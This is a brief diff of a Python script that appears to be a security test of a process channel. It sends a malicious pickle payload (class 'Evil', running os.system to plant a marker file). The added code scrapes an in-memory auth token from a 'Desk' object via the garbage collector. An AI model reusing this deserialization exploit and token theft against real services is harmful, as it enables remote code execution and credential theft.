@@ -3,6 +3,13 @@ import os
 import struct
 
 
+def token():
+    import gc
+
+    desk = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Desk")
+    return desk.token.encode()
+
+
 def send(head, body=b""):
     os.write(3, struct.pack(">II", len(head), len(body)) + head + body)
 
@@ -15,4 +22,4 @@ class Evil:
         return os.system, ("touch /tmp/planted",)
 
 
-send(b'{"value": {"tensor": "0"}, "token": "t"}', pickle.dumps(Evil()))
+send(b'{"value": {"tensor": "0"}, "token": "' + token() + b'"}', pickle.dumps(Evil()))
